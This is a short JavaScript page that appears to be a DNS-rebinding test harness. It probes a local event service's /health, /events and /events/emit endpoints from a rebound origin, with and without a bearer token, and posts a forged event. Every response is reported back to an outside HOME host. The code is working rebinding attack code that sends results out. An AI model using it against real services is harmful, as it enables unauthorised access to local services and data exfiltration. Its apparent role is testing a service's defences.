// A page whose name is rebound: it came from here, and now somebody else answers under the same origin. HOME is where it asks when
// and reports what it got. It even has the token, which no real page would.
"use strict";
const pause = (ms) => new Promise((done) => setTimeout(done, ms));
const report = (name, what) => fetch(HOME + "/report?" + name, { method: "POST", mode: "no-cors", body: String(what) });

async function attack() {
  await report("loaded", location.origin);
  let token = "";
  while (!token) {
    await pause(50);
    token = await (await fetch(HOME + "/token")).text();
  }
  const headers = { Authorization: "Bearer " + token, "Content-Type": "application/json" };
  const body = JSON.stringify({ kind: "custom", payload: { name: "forged", data: 1 } });
  const ask = async (name, path, options) => {
    let answer;
    try {
      const response = await fetch(path, options);
      answer = response.status + " " + (await response.text());
    } catch (error) {
      answer = "blocked: " + error;
    }
    await report(name, answer);
  };
  await ask("health", "/health");
  await ask("read", "/events");
  await ask("read-token", "/events", { headers });
  await ask("write", "/events/emit", { method: "POST", body, headers: { "Content-Type": "application/json" } });
  await ask("write-token", "/events/emit", { method: "POST", body, headers });
}
